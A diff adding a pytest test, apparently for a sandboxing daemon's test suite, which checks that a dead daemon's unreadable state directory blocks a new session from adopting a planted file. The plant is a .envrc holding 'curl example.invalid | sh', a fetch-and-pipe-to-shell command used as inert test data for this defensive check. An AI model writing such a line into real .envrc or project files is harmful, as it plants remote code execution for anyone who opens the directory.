@@ -311,3 +311,42 @@ def test_a_plant_is_never_put_back_by_a_daemon_on_another_state_directory(
     assert fsmonitor.returncode == 1, fsmonitor.stdout
     git(repo, "status")
     assert not mark.exists(), "the user's git ran the session's command"
+
+
+def test_a_dead_daemon_s_unreadable_state_directory_refuses_a_related_open_until_readable(
+        tmp_path: Path, repo: Path) -> None:
+    """A session made its daemon's state directory unreadable (degraded mode:
+    a chmod above it, which no daemon sets back), then its daemon died: its
+    records are not taken for gone, and another daemon's open refuses, saying
+    which directory, rather than take the session's plant into its baseline."""
+    with _pair(tmp_path, "--no-user-namespaces", one_state=False) as (first, second):
+        c1 = first.connect()
+        s1 = c1.open_session(str(repo))
+        top = first.state  # the state directory's parent: the user's, not the daemon's to set back
+        r = shell(s1, f"echo 'curl example.invalid | sh' > .envrc && chmod 000 '{top}' && stat -c %a '{top}'")
+        assert r.output == "0\n", r  # the twin: the chmod happened
+        os.kill(first.proc.pid, signal.SIGKILL)
+        first.proc.wait(timeout=10)
+        with contextlib.suppress(dispatch.DispatchError, OSError):
+            s1.close()
+        c1.close()
+        state = top / "dispatchd"
+        with second.connect() as c2:
+            said: list[str] = []
+
+            def refused() -> bool:
+                try:
+                    c2.open_session(str(repo)).close()
+                except dispatch.DispatchError as exc:
+                    said.append(str(exc))
+                    return "cannot be read" in str(exc)
+                return True
+            assert wait_until(refused)
+            assert said[-1] == (
+                f"{repo}: a dispatchd that died had sessions related to this worktree, and its state directory "
+                f"{state} cannot be read (Permission denied), so what they left cannot be checked; make it "
+                f"readable (chmod 700 {state}) and open again; no session opened"), said
+            assert (repo / ".envrc").exists()  # nothing opened, so nothing taken in as the user's
+            top.chmod(0o700)
+            assert wait_until(lambda: _opens(c2, repo))
+            assert not (repo / ".envrc").exists()  # checked in the dead daemon's records, moved aside
